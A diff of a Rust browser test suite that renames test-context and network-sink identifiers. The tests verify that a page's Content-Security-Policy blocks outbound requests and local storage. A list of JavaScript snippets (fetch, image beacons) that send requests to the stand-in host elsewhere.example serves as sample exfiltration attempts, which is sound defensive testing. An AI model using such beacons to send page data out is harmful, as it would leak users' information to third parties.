@@ -1,9 +1,9 @@
-//! Nothing leaves the page: seen by the host that serves it, and by the sinkhole where every other address leads.
+//! Nothing leaves the page: seen by the host that serves it, and by the network sink where every other address leads.
 
 use std::time::Duration;
 
 use anyhow::{Result, ensure};
-use browser_tests::{Stage, artefact, until};
+use browser_tests::{TestContext, artefact, until};
 use tokio::time::sleep;
 
 use crate::setup::page::{Page, SETUP};
@@ -14,7 +14,7 @@ const QUIET: Duration = Duration::from_millis(800);
 /// Chromium asks it about the forms of any page that has one.
 const ABOUT_FORMS: &str = "content-autofill.googleapis.com";
 
-/// Ways to send something from a page. Each would reach this machine's host, or the sinkhole.
+/// Ways to send something from a page. Each would reach this machine's host, or the network sink.
 const WAYS: [&str; 9] = [
     "fetch('http://elsewhere.example/').catch(() => 0)",
     "new Image().src = 'http://elsewhere.example/told.png'",
@@ -30,18 +30,18 @@ const WAYS: [&str; 9] = [
 
 /// Every request so far. A connection that says nothing is none: Chromium opens one ahead for a frame, and then refuses the
 /// frame.
-fn asked(stage: &Stage) -> Vec<String> {
-    let mut asked = stage.sinkhole.asked_by_pages();
+fn asked(cx: &TestContext) -> Vec<String> {
+    let mut asked = cx.network_sink.asked_by_pages();
     asked.retain(|name| !name.is_empty() && name != ABOUT_FORMS);
     asked
 }
 
 /// Whoever else was asked, as soon as nothing more comes in.
-async fn settled(stage: &Stage) -> Vec<String> {
+async fn settled(cx: &TestContext) -> Vec<String> {
     loop {
-        let before = asked(stage);
+        let before = asked(cx);
         sleep(QUIET).await;
-        if before == asked(stage) {
+        if before == asked(cx) {
             return before;
         }
     }
@@ -49,69 +49,69 @@ async fn settled(stage: &Stage) -> Vec<String> {
 
 /// Opened from a file and filled in, it asks nobody, and keeps nothing for the next visit. Served by a host, it asks for
 /// itself alone.
-pub async fn nothing_is_fetched_or_kept(stage: &Stage) -> Result<()> {
-    stage.sinkhole.empty();
-    let page = Page::open(stage).await?;
+pub async fn nothing_is_fetched_or_kept(cx: &TestContext) -> Result<()> {
+    cx.network_sink.empty();
+    let page = Page::open(cx).await?;
     page.fill("clinic", "Harbor Street").await?;
     page.fill("book", "https://elsewhere.example/book").await?;
     page.pick("go-to", "CONSULT").await?;
     page.preview("outcome").await?;
     page.press("[data-copy=snippet]").await?;
-    let found = settled(stage).await;
+    let found = settled(cx).await;
     ensure!(found.is_empty(), "asked {found:?}");
-    let resources: u32 = stage.script("return performance.getEntriesByType('resource').length;", vec![]).await?;
+    let resources: u32 = cx.script("return performance.getEntriesByType('resource').length;", vec![]).await?;
     ensure!(resources == 0, "loaded {resources} resources");
-    let page = Page::open(stage).await?;
+    let page = Page::open(cx).await?;
     ensure!(page.value("clinic").await?.is_empty(), "it remembers what was typed");
 
-    stage.open(&format!("/{SETUP}")).await?;
-    Page::drawn(stage).await?.fill("clinic", "Harbor Street").await?;
-    let before = stage.host.requests();
+    cx.open(&format!("/{SETUP}")).await?;
+    Page::drawn(cx).await?.fill("clinic", "Harbor Street").await?;
+    let before = cx.host.requests();
     sleep(QUIET).await;
-    let mut own = stage.host.requests();
+    let mut own = cx.host.requests();
     own.retain(|path| path.contains("setup") || path.contains("favicon"));
-    ensure!(before == stage.host.requests() && !own.is_empty(), "asked its host for {:?}", stage.host.requests());
+    ensure!(before == cx.host.requests() && !own.is_empty(), "asked its host for {:?}", cx.host.requests());
     let kept = "return localStorage.length + sessionStorage.length + document.cookie.length;";
-    ensure!(stage.script::<u32>(kept, vec![]).await? == 0, "it keeps something");
+    ensure!(cx.script::<u32>(kept, vec![]).await? == 0, "it keeps something");
     Ok(())
 }
 
 /// Tries every way from the page itself; whoever was asked.
-async fn tried(stage: &Stage, path: &str, way: &str) -> Result<Vec<String>> {
-    stage.open(path).await?;
-    Page::drawn(stage).await?;
-    stage.sinkhole.empty();
+async fn tried(cx: &TestContext, path: &str, way: &str) -> Result<Vec<String>> {
+    cx.open(path).await?;
+    Page::drawn(cx).await?;
+    cx.network_sink.empty();
     let script = format!("try {{ {way}; }} catch {{ /* closed */ }} return null;");
-    stage.script::<()>(&script, vec![]).await?;
-    Ok(settled(stage).await)
+    cx.script::<()>(&script, vec![]).await?;
+    Ok(settled(cx).await)
 }
 
 /// A script of the page itself, gone bad, reaches nobody.
-pub async fn every_way_out_is_closed(stage: &Stage) -> Result<()> {
+pub async fn every_way_out_is_closed(cx: &TestContext) -> Result<()> {
     for way in WAYS {
-        let found = tried(stage, &format!("/{SETUP}"), way).await?;
-        stage.close_other_windows().await?;
+        let found = tried(cx, &format!("/{SETUP}"), way).await?;
+        cx.close_other_windows().await?;
         ensure!(found.is_empty(), "{way} reached {found:?}");
     }
     Ok(())
 }
 
 /// Control: the same page without its policy.
-pub async fn each_of_these_ways_is_open_without_the_policy(stage: &Stage) -> Result<()> {
+pub async fn each_of_these_ways_is_open_without_the_policy(cx: &TestContext) -> Result<()> {
     let whole = artefact::file(SETUP)?;
     let policy = artefact::between(&whole, "<meta http-equiv=\"Content-Security-Policy\"", ">")?;
     let open = whole.replacen(&format!("<meta http-equiv=\"Content-Security-Policy\"{policy}>"), "", 1);
-    stage.host.add_page("/open.html", "text/html; charset=utf-8", open);
+    cx.host.add_page("/open.html", "text/html; charset=utf-8", open);
     for way in WAYS {
-        stage.open("/open.html").await?;
-        Page::drawn(stage).await?;
-        stage.sinkhole.empty();
-        stage.script::<()>(&format!("try {{ {way}; }} catch {{ /* not here */ }} return null;"), vec![]).await?;
+        cx.open("/open.html").await?;
+        Page::drawn(cx).await?;
+        cx.network_sink.empty();
+        cx.script::<()>(&format!("try {{ {way}; }} catch {{ /* not here */ }} return null;"), vec![]).await?;
         until(&format!("{way} to be seen"), || async {
-            Ok(asked(stage).iter().any(|name| name.contains("elsewhere.example")).then_some(()))
+            Ok(asked(cx).iter().any(|name| name.contains("elsewhere.example")).then_some(()))
         })
         .await?;
-        stage.close_other_windows().await?;
+        cx.close_other_windows().await?;
     }
     Ok(())
 }
